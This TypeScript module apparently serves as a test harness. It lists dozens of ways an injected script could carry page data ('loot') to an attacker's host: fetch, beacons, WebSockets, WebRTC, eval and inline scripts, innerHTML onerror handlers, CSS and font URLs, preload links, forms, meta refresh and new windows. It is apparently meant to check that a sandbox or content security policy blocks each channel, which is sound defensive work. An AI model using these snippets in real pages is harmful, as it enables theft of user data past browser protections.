/*
 * What a script with a foothold in the page would try, to get answers out. Each is sent into the page as text: it sees
 * nothing but what it is given.
 */

export interface Given {
  readonly [key: string]: string
  /** Where requests of this attempt go, in the attacker's web. */
  readonly at: string
  /** Where a mere connection counts, and where a datagram does. */
  readonly door: string
  readonly post: string
  /** What is in the page to take. */
  readonly loot: string
  /** What an element is made of. */
  readonly tag: string
  readonly attribute: string
}

/** May throw, where the browser lets nothing of it begin. */
export type Attempt = (given: Given) => unknown

/** Requests and connections that a script makes. */
const asking: Readonly<Record<string, Attempt>> = {
  fetch: ({ at, loot }) => fetch(`${at}?${loot}`, { mode: 'no-cors' }),
  'fetch-post': ({ at, loot }) =>
    fetch(at, { method: 'POST', mode: 'no-cors', body: loot, keepalive: true }),
  'xml-http-request': ({ at, loot }) => {
    const request = new XMLHttpRequest()
    request.open('GET', `${at}?${loot}`)
    request.send()
  },
  beacon: ({ at, loot }) => navigator.sendBeacon(at, loot),
  'web-socket': ({ at, loot }) => void new WebSocket(`${at.replace('http', 'ws')}?${loot}`),
  'event-source': ({ at, loot }) => void new EventSource(`${at}?${loot}`),
  import: ({ at, loot }) => import(`${at}.js?${loot}`),
  worker: ({ at, loot }) => {
    const code = `fetch('${at}?${loot}', { mode: 'no-cors' })`
    return void new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })))
  },
  'web-rtc': async ({ post }) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${post}` }] })
    connection.createDataChannel('answers')
    await connection.setLocalDescription(await connection.createOffer())
  },
}

/** What comes to run, and would ask. */
const running: Readonly<Record<string, Attempt>> = {
  eval: ({ at, loot }) =>
    // Later, as a driver lets what it runs itself evaluate anything.
    setTimeout(() => (0, eval)(`new Image().src = '${at}?${loot}'`)),
  'new-function': ({ at, loot }) =>
    setTimeout(() => new Function(`new Image().src = '${at}?${loot}'`)()),
  'timer-text': ({ at, loot }) => setTimeout(`new Image().src = '${at}?${loot}'`),
  'inline-script': ({ at, loot }) => {
    const script = document.createElement('script')
    script.append(`new Image().src = '${at}?${loot}'`)
    document.body.append(script)
  },
  'speculation-rules': ({ at, loot }) => {
    const script = document.createElement('script')
    script.type = 'speculationrules'
    const rule = { urls: [`${at}.html?${loot}`], eagerness: 'immediate' }
    script.append(JSON.stringify({ prefetch: [rule], prerender: [rule] }))
    document.body.append(script)
  },
  'inner-html': ({ at, loot }) => {
    const place = document.body.appendChild(document.createElement('div'))
    place.innerHTML = `<img src="data:," onerror="new Image().src = '${at}?${loot}'">`
  },
  'inserted-html': ({ at, loot }) =>
    document.body.insertAdjacentHTML('beforeend', `<img src="${at}?${loot}">`),
  handler: ({ at, loot }) => {
    const button = document.body.appendChild(document.createElement('button'))
    button.setAttribute('onclick', `new Image().src = '${at}?${loot}'`)
    button.click()
  },
  'script-address': ({ at, loot }) => {
    const link = document.body.appendChild(document.createElement('a'))
    link.href = `javascript:void (new Image().src = '${at}?${loot}')`
    link.click()
  },
  'frame-of-its-own': ({ at, loot }) => {
    const frame = document.body.appendChild(document.createElement('iframe'))
    return frame.contentWindow?.fetch(`${at}?${loot}`, { mode: 'no-cors' })
  },
  base: ({ at, loot }) => {
    const base = document.head.appendChild(document.createElement('base'))
    base.href = at
    const image = new Image()
    image.src = `base?${loot}`
    setTimeout(() => base.remove())
  },
  ping: ({ at, loot }) => {
    const link = document.body.appendChild(document.createElement('a'))
    link.href = '#'
    link.ping = `${at}?${loot}`
    link.click()
  },
}

/** What a style sheet would load. */
const styling: Readonly<Record<string, Attempt>> = {
  'style-element': ({ at, loot }) => {
    const style = document.createElement('style')
    style.append(`html { background: url('${at}?${loot}') }`)
    document.head.append(style)
  },
  'style-import': ({ at, loot }) => {
    const style = document.createElement('style')
    style.append(`@import '${at}.css?${loot}';`)
    document.head.append(style)
  },
  'style-attribute': ({ at, loot }) =>
    document.body.setAttribute('style', `background: url('${at}?${loot}')`),
  'style-by-script': ({ at, loot }) => {
    document.body.style.borderImage = `url('${at}?${loot}')`
  },
  'adopted-style': ({ at, loot }) => {
    const sheet = new CSSStyleSheet()
    sheet.replaceSync(`main { background: url('${at}?${loot}') }`)
    document.adoptedStyleSheets = [sheet]
  },
  font: ({ at, loot }) => new FontFace('answers', `url('${at}?${loot}')`).load(),
}

/** What an element loads once it stands in the page. */
const plant: Attempt = ({ at, loot, tag, attribute }) => {
  const [name = '', ...others] = tag.split(' ')
  const isDrawing = name.startsWith('svg:')
  const element = isDrawing
    ? document.createElementNS('http://www.w3.org/2000/svg', name.slice(4))
    : document.createElement(name)
  for (const other of others) element.setAttribute(...(other.split('=') as [string, string]))
  const address = `${at}?${loot}`
  element.setAttribute(attribute, attribute === 'srcdoc' ? `<img src="${address}">` : address)
  const around = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
  document.body.append(isDrawing ? (around.append(element), around) : element)
}

/** The element, and the attribute with an address. */
const elements: Readonly<Record<string, readonly [tag: string, attribute: string]>> = {
  image: ['img', 'src'],
  'image-set': ['img', 'srcset'],
  video: ['video', 'src'],
  poster: ['video', 'poster'],
  'input-image': ['input type=image', 'src'],
  'svg-image': ['svg:image', 'href'],
  iframe: ['iframe', 'src'],
  'iframe-document': ['iframe', 'srcdoc'],
  object: ['object', 'data'],
  embed: ['embed', 'src'],
  script: ['script', 'src'],
  'style-sheet': ['link rel=stylesheet', 'href'],
  prefetch: ['link rel=prefetch', 'href'],
  'preload-image': ['link rel=preload as=image', 'href'],
  'preload-fetch': ['link rel=preload as=fetch crossorigin=anonymous', 'href'],
  'preload-font': ['link rel=preload as=font crossorigin=anonymous', 'href'],
  'preload-script': ['link rel=preload as=script', 'href'],
  'preload-style': ['link rel=preload as=style', 'href'],
  'module-preload': ['link rel=modulepreload', 'href'],
}

/** A connection, which says nothing but that somebody is there, and as much as fits into a name. */
const preconnect: Attempt = ({ door }) => {
  const link = document.createElement('link')
  link.rel = 'preconnect'
  link.href = door
  document.head.append(link)
}

/** What leaves the page where it is. */
export const staying: Readonly<
  Record<string, { readonly run: Attempt; readonly tag?: string; readonly attribute?: string }>
> = {
  ...Object.fromEntries(
    Object.entries({ ...asking, ...running, ...styling, preconnect }).map(([name, run]) => [
      name,
      { run },
    ]),
  ),
  ...Object.fromEntries(
    Object.entries(elements).map(([name, [tag, attribute]]) => [
      name,
      { run: plant, tag, attribute },
    ]),
  ),
}

/** What goes to another page, or opens one. Each begins a moment later, so that the driver hears that it was begun. */
export const leaving: Readonly<Record<string, Attempt>> = {
  'form-get': ({ at, loot }) => {
    const form = document.body.appendChild(document.createElement('form'))
    form.action = `${at}.html`
    const field = form.appendChild(document.createElement('input'))
    field.name = 'answers'
    field.value = loot
    setTimeout(() => form.submit())
  },
  'form-post': ({ at, loot }) => {
    const form = document.body.appendChild(document.createElement('form'))
    form.action = `${at}.html`
    form.method = 'post'
    const field = form.appendChild(document.createElement('input'))
    field.name = 'answers'
    field.value = loot
    setTimeout(() => form.submit())
  },
  'form-in-a-new-tab': ({ at, loot }) => {
    const form = document.body.appendChild(document.createElement('form'))
    form.target = '_blank'
    const button = form.appendChild(document.createElement('button'))
    button.formAction = `${at}.html?${loot}`
    button.formMethod = 'post'
    setTimeout(() => button.click())
  },
  address: ({ at, loot }) => setTimeout(() => location.assign(`${at}.html?${loot}`)),
  link: ({ at, loot }) => {
    const link = document.body.appendChild(document.createElement('a'))
    link.href = `${at}.html?${loot}`
    setTimeout(() => link.click())
  },
  refresh: ({ at, loot }) => {
    const meta = document.createElement('meta')
    meta.httpEquiv = 'refresh'
    meta.content = `0;url=${at}.html?${loot}`
    setTimeout(() => document.head.append(meta))
  },
  window: ({ at, loot }) => setTimeout(() => open(`${at}.html?${loot}`)),
}
